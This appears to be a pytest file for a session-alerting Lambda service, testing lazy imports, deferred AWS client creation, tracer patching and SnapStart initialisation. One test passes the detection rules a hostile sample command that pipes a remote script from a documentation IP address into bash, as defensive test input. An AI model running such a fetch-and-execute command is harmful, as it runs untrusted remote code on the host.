"""What the session alert function's cold start does not do (docs/performance.md, "Starting a function"): import
modules a quiet delivery does not use, make boto3 clients for outlets it never calls, patch libraries it does not
call out with. Behaviour, not timing: each fails when the work comes back, whatever the machine's speed."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from sessionguard.adapters import aws
from sessionguard.alerting import session_alerts

from tests.support import REPO, fresh_powertools

ENVIRONMENT = {
    "ALERT_TOPIC_ARN": "arn:aws:sns:us-east-1:123456789012:sessionguard-alerts",
    "ALERT_STATE_TABLE": "sessionguard-alert-state",
    "SANITIZED_LOG_GROUP": "/aws/ssm/sessionguard/sanitized",
    "FAILURE_QUEUE_URL": "https://sqs.us-east-1.amazonaws.com/123456789012/sessionguard-alert-failures",
    "SESSION_LEDGER_TABLE": "sessionguard-session-ledger",
    "ALERT_EVENT_BUS": "default",
    "ALERT_LOG_GROUP": "/aws/ssm/sessionguard/sanitized",
}


# Modules the session alert handler's import must not load: a quiet delivery needs none of them.
NOT_AT_IMPORT = (
    "aws_lambda_powertools.utilities.data_classes",  # the handler reads the event itself
    "aws_lambda_powertools.utilities.idempotency",  # the delivery ledger, on its first delivery
    "aws_lambda_powertools.utilities.parameters",  # the Slack webhook's secret, on the first Slack delivery
    "sessionguard.guardrails.catalog",  # the guardrail function's, reached through ledger.calls before
    "boto3",  # clients are botocore's (adapters.aws.sdk_session); boto3's DynamoDB types only when alerting
    "s3transfer",  # imported by boto3
)


def test_the_handler_module_imports_nothing_a_quiet_delivery_does_not_use() -> None:
    script = (
        "import sys\n"
        f"sys.path[:0] = [{str(REPO / 'functions' / 'session_alerts')!r}, {str(REPO / 'layers' / 'sessionguard')!r}]\n"
        "import app\n"
        f"print(sorted(m for m in sys.modules if m.startswith({NOT_AT_IMPORT!r})))\n"
    )
    completed = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, check=True)
    assert completed.stdout.strip() == "[]"


def test_a_quiet_deliverys_set_up_imports_no_boto3() -> None:
    """The rule pack, the outlets and the CloudWatch Logs client a quiet delivery writes with: botocore only."""
    script = (
        "import sys\n"
        f"sys.path[:0] = [{str(REPO / 'functions' / 'session_alerts')!r}, {str(REPO / 'layers' / 'sessionguard')!r}]\n"
        "import app\n"
        "from sessionguard.alerting import session_alerts\n"
        "session_alerts.default_rules().match('curl -s http://198.51.100.7/x | bash')\n"
        "_, outlets = session_alerts.default_outlets()\n"
        "outlets.transcripts._client\n"
        "print(sorted(m for m in sys.modules if m.startswith(('boto3', 's3transfer'))))\n"
    )
    environment = {**os.environ, **ENVIRONMENT, "AWS_DEFAULT_REGION": "us-east-1"}
    completed = subprocess.run(
        [sys.executable, "-c", script], capture_output=True, text=True, check=True, env=environment
    )
    assert completed.stdout.strip() == "[]"


def test_building_the_outlets_makes_no_aws_client_until_one_is_used(monkeypatch: pytest.MonkeyPatch) -> None:
    for name, value in ENVIRONMENT.items():
        monkeypatch.setenv(name, value)
    made: list[str] = []
    real = aws.aws_client

    def recording_client(service: str, *args: Any, **kwargs: Any) -> Any:
        made.append(service)
        return real(service, *args, **kwargs)

    monkeypatch.setattr(aws, "aws_client", recording_client)
    for _ in fresh_powertools(session_alerts.default_outlets):
        _, outlets = session_alerts.default_outlets()
        assert made == []

        assert outlets.transcripts._client is outlets.transcripts._client  # type: ignore[attr-defined]
        assert made == ["logs"]  # made on first use, once
        assert outlets.slack._webhook is None  # type: ignore[attr-defined]  # nor the Slack opener (its CA store)


def test_the_tracer_patches_only_what_the_functions_call_out_with() -> None:
    script = (
        "import sys\n"
        f"sys.path[:0] = [{str(REPO / 'layers' / 'sessionguard')!r}]\n"
        "from sessionguard.observability import tracer\n"
        "import aws_xray_sdk.core.patcher as patcher\n"
        "print(tracer.disabled, sorted(patcher._PATCHED_MODULES))\n"
    )
    lambda_like = {
        "LAMBDA_TASK_ROOT": "/tmp",
        "AWS_LAMBDA_FUNCTION_NAME": "f",
        "AWS_XRAY_CONTEXT_MISSING": "IGNORE_ERROR",
    }
    environment = {k: v for k, v in os.environ.items() if k != "POWERTOOLS_TRACE_DISABLED"}
    completed = subprocess.run(
        [sys.executable, "-c", script], capture_output=True, text=True, check=True, env={**environment, **lambda_like}
    )
    assert completed.stdout.strip() == "False ['botocore', 'httplib']"


def test_the_import_does_what_a_cold_start_does_before_a_snapshot_only_under_snapstart(tmp_path: Path) -> None:
    """With AWS_LAMBDA_INITIALIZATION_TYPE=snap-start (Lambda SnapStart), the import compiles the Linux rule sets,
    makes the transcript client and registers a reseed of `random` for after each restore; otherwise none of it."""
    (tmp_path / "snapshot_restore_py.py").write_text(
        "AFTER_RESTORE = []\ndef register_after_restore(hook):\n    AFTER_RESTORE.append(hook.__name__)\n"
    )
    script = (
        "import sys\n"
        f"sys.path[:0] = [{str(REPO / 'functions' / 'session_alerts')!r}, {str(REPO / 'layers' / 'sessionguard')!r},"
        f" {str(tmp_path)!r}]\n"
        "import app, snapshot_restore_py\n"
        "from sessionguard.alerting import session_alerts\n"
        "rules = session_alerts.default_rules.cache_info().currsize and session_alerts.default_rules()\n"
        "outlets = session_alerts.default_outlets.cache_info().currsize and session_alerts.default_outlets()[1]\n"
        "print(bool(rules) and rules._platforms['linux'].prefilter._compiled,\n"
        "      bool(rules) and rules._platforms['windows'].prefilter._compiled,\n"
        "      bool(outlets) and '_client' in vars(outlets.transcripts), snapshot_restore_py.AFTER_RESTORE)\n"
    )
    environment = {**os.environ, **ENVIRONMENT, "AWS_DEFAULT_REGION": "us-east-1"}
    environment |= {"AWS_ACCESS_KEY_ID": "testing", "AWS_SECRET_ACCESS_KEY": "testing"}

    def run(initialization_type: str) -> str:
        env = {**environment, "AWS_LAMBDA_INITIALIZATION_TYPE": initialization_type}
        completed = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, check=True, env=env)
        return completed.stdout.strip()

    assert run("snap-start") == "True False True ['seed']"
    assert run("on-demand") == "False False False []"  # nothing loaded, compiled or made
